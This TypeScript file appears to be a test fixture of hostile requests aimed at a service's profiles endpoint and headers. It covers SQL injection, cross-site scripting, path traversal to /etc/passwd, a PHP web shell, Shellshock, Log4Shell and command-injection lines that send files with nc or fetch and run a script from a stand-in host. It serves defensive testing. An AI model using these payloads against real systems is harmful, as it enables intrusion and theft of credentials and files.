/** A request that no client of Kindred makes. */
interface Attack {
  readonly name: string
  readonly path: string
  readonly headers?: Readonly<Record<string, string>>
}

const query = (text: string): string => `/v1/profiles/towns?query=${encodeURIComponent(text)}`

/** The classic ones, in addresses and headers. */
export const attacks: readonly Attack[] = [
  { name: 'SQL that is always true', path: query("1' or '1'='1") },
  { name: 'SQL of a union', path: query("x' union select password from users -- ") },
  { name: 'SQL that waits', path: query("1'; select pg_sleep(10) -- ") },
  { name: 'SQL behind a comment', path: query("admin'/**/or/**/1=1#") },
  { name: 'SQL in a header', path: '/health', headers: { referer: "https://x.example/?a=1' or '1'='1" } },
  { name: 'SQL in a cookie', path: '/health', headers: { cookie: "session=1' union select 1,2,3 -- " } },
  { name: 'a script', path: query('<script>alert(document.cookie)</script>') },
  { name: 'a script by an image', path: query('<img src=x onerror=alert(1)>') },
  { name: 'a script by an address', path: query('javascript:alert(1)//"><svg/onload=alert(1)>') },
  { name: 'a script in a header', path: '/health', headers: { referer: '<script>alert(1)</script>' } },
  { name: 'a file above', path: query('../../../../etc/passwd') },
  {
    name: 'a file above, written twice',
    path: '/v1/profiles/towns?query=..%252f..%252f..%252fetc%252fpasswd',
  },
  { name: 'a file of the system', path: query('/etc/shadow') },
  { name: 'a file of a repository', path: '/.git/config' },
  { name: 'a file from elsewhere', path: query('http://203.0.113.5/shell.php?') },
  { name: 'a command', path: query('; cat /etc/passwd | nc 203.0.113.5 99') },
  { name: 'a command in a subshell', path: query('$(wget http://203.0.113.5/x -O- | sh)') },
  {
    name: 'a command by bash of 2014',
    path: '/health',
    headers: { 'user-agent': '() { :; }; /bin/cat /etc/passwd' },
  },
  { name: 'a template of Java', path: query('%{(#a=@java.lang.Runtime@getRuntime().exec("id"))}') },
  { name: 'a lookup of a log', path: query('${jndi:ldap://203.0.113.5/a}') },
  { name: 'code of PHP', path: query('<?php system($_GET["c"]); ?>') },
  { name: 'a second answer', path: query('x\r\nSet-Cookie: admin=1') },
  { name: 'a scanner', path: '/health', headers: { 'user-agent': 'sqlmap/1.7 (https://sqlmap.org)' } },
]
